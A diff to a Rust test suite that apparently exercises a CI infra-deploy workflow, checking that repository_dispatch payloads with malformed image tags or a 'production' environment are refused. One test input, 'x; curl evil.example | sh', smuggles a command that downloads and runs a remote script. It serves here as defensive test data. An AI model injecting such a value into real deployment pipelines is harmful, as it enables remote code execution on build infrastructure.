@@ -886,10 +886,10 @@ fn the_workflows_pass_zizmor_actionlint_and_the_input_check() {
 
 /// Pipeline 4's infrastructure side reads image tags from another repository's
 /// `repository_dispatch`: its plan job turns them into a deploy matrix and refuses a tag that
-/// is not a tag (the payload is untrusted input).
+/// is not a tag and an environment other than dev or staging (the payload is untrusted input).
 #[test]
 fn infra_dispatch_payload_becomes_a_matrix_and_bad_tags_are_refused() {
-    let plan = |images: Value| {
+    let plan_for = |environment: &str, images: Value| {
         let repo = GitRepo::new();
         repo.write(
             ".github/workflows/infra-deploy.yml",
@@ -901,12 +901,13 @@ fn infra_dispatch_payload_becomes_a_matrix_and_bad_tags_are_refused() {
             .event("repository_dispatch")
             .event_json(json!({
                 "action": "deploy",
-                "client_payload": {"environment": "dev", "images": images},
+                "client_payload": {"environment": environment, "images": images},
                 "repository": {"default_branch": "main", "full_name": "acme/shop-infra"}
             }))
             .args(["-j", "plan"])
             .run()
     };
+    let plan = |images: Value| plan_for("dev", images);
     let run = plan(json!({"api": "dev-1a2b3c4", "web": "dev-1a2b3c4"}));
     run.assert_success();
     let matrix = run
@@ -923,4 +924,14 @@ fn infra_dispatch_payload_becomes_a_matrix_and_bad_tags_are_refused() {
     let bad = plan(json!({"api": "x; curl evil.example | sh"}));
     bad.assert_failure();
     assert!(bad.log().contains("bad image api:"), "{}", bad.report());
+    // Production is a manual dispatch with approval: whoever can dispatch cannot ask for it.
+    let production = plan_for("production", json!({"api": "sha-1a2b3c4"}));
+    production.assert_failure();
+    assert!(
+        production
+            .log()
+            .contains("a repository_dispatch deploys dev or staging, not 'production'"),
+        "{}",
+        production.report()
+    );
 }
